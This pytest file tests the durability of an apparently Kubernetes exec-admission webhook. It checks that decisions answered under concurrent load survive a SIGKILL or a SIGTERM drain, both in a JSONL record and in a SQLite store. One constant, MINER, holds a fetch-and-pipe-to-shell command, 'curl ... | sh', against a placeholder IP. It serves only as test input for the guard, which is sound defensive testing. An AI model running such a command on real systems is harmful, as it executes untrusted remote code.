"""A decision server killed under load: every decision it answered is recorded, in decisions.jsonl at once and
in the store after the next start; SIGTERM drains (answers what it is reading, copies the rest, exits 0).

The webhook runs as the Deployment runs it (its own process, the CLI); clients post exec reviews over
kept-alive HTTPS connections, as kube-apiserver does, and note the uid of every review answered.
"""

from __future__ import annotations

import http.client
import json
import signal
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import orjson
import pytest

from execguard.testing import reviews
from execguard.testing.dockerd import DockerdUnavailable, TLSFiles, free_port, make_test_certs

MINER = ["sh", "-c", "curl -s http://198.51.100.7/x | sh"]
CLIENTS = 4
ANSWERS_BEFORE_SIGNAL = 400  # answered reviews before the signal: the server is busy when it comes


@pytest.fixture(scope="module")
def certs(tmp_path_factory: pytest.TempPathFactory) -> TLSFiles:
    try:
        return make_test_certs(tmp_path_factory.mktemp("certs"))
    except DockerdUnavailable as exc:
        pytest.skip(str(exc))


@dataclass
class Server:
    certs: TLSFiles
    tmp: Path
    port: int = field(default_factory=free_port)
    proc: subprocess.Popen[bytes] | None = None

    @property
    def record(self) -> Path:
        return self.tmp / "state" / "decisions.jsonl"

    @property
    def store(self) -> Path:
        return self.tmp / "guard.db"

    def start(self) -> None:
        cmd = [sys.executable, "-m", "execguard", "guard", "admission", "--tls-cert", str(self.certs.server_cert),
               "--tls-key", str(self.certs.server_key), "--listen", f"127.0.0.1:{self.port}",
               "--state-dir", str(self.tmp / "state"), "--store", str(self.store)]  # fmt: skip
        self.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=open(self.tmp / "webhook.log", "ab"))  # noqa: SIM115
        deadline = time.monotonic() + 60
        while True:
            try:
                conn = self.connect()
                conn.request("GET", "/readyz")
                if conn.getresponse().status == 200:
                    conn.close()
                    return
            except OSError:
                pass
            assert self.proc.poll() is None and time.monotonic() < deadline, (self.tmp / "webhook.log").read_text()
            time.sleep(0.1)

    def connect(self) -> http.client.HTTPSConnection:
        return http.client.HTTPSConnection("127.0.0.1", self.port, context=reviews.client_context(str(self.certs.ca)), timeout=10)


@dataclass
class Load:
    """Clients posting judged exec reviews until the server stops answering; ``answered`` holds the uids it answered."""

    server: Server
    answered: set[str] = field(default_factory=set)
    lock: threading.Lock = field(default_factory=threading.Lock)
    threads: list[threading.Thread] = field(default_factory=list)

    def client(self, n: int) -> None:
        conn = self.server.connect()
        i = 0
        while True:
            review = reviews.connect("exec", MINER if i % 3 == 0 else ["ls", f"/tmp/{n}-{i}"])
            i += 1
            try:
                status, body = reviews.post(conn, review)
            except (OSError, http.client.HTTPException):
                return  # killed, or drained: this review was not answered
            assert status == 200
            uid = orjson.loads(body)["response"]["uid"]
            with self.lock:
                self.answered.add(uid)

    def __enter__(self) -> Load:
        self.threads = [threading.Thread(target=self.client, args=(n,), daemon=True) for n in range(CLIENTS)]
        for t in self.threads:
            t.start()
        while len(self.answered) < ANSWERS_BEFORE_SIGNAL:
            assert any(t.is_alive() for t in self.threads), "the clients stopped before the signal"
            time.sleep(0.01)
        return self

    def __exit__(self, *_: object) -> None:
        for t in self.threads:
            t.join(60)


def recorded_uids(record: Path) -> list[str]:
    return [d["uid"] for d in map(json.loads, record.read_text().splitlines()) if d["kind"] == "decision"]


def stored_uids(store: Path) -> list[str]:
    db = sqlite3.connect(store)
    try:
        return [uid for (uid,) in db.execute("SELECT uid FROM guard_records WHERE kind = 'decision'")]
    finally:
        db.close()


@pytest.fixture
def server(certs: TLSFiles, tmp_path: Path) -> Iterator[Server]:
    s = Server(certs, tmp_path)
    s.start()
    try:
        yield s
    finally:
        if s.proc is not None and s.proc.poll() is None:
            s.proc.kill()
            s.proc.wait(10)


def test_sigkill_under_load_loses_no_answered_decision(server: Server) -> None:
    assert server.proc is not None
    with Load(server) as load:
        server.proc.send_signal(signal.SIGKILL)
        assert server.proc.wait(30) == -signal.SIGKILL
    answered = set(load.answered)
    recorded = recorded_uids(server.record)
    assert answered <= set(recorded)  # written before the answer left
    assert len(recorded) == len(set(recorded))  # one review, one decision line
    # the store may be behind (the copy runs every 0.2 s); the next start copies what it missed, once
    server.start()
    server.proc.send_signal(signal.SIGTERM)
    assert server.proc.wait(60) == 0
    stored = stored_uids(server.store)
    assert answered <= set(stored) and sorted(stored) == sorted(recorded)


def test_sigterm_drains_answers_and_copies_everything(server: Server) -> None:
    assert server.proc is not None
    with Load(server) as load:
        server.proc.send_signal(signal.SIGTERM)
        assert server.proc.wait(60) == 0
    answered = set(load.answered)
    recorded = recorded_uids(server.record)
    stored = stored_uids(server.store)  # without a restart: the drain copied the last decisions
    assert answered <= set(recorded) and sorted(stored) == sorted(recorded)
    log = (server.tmp / "webhook.log").read_text()
    assert "records copied this run" in log and "Traceback" not in log
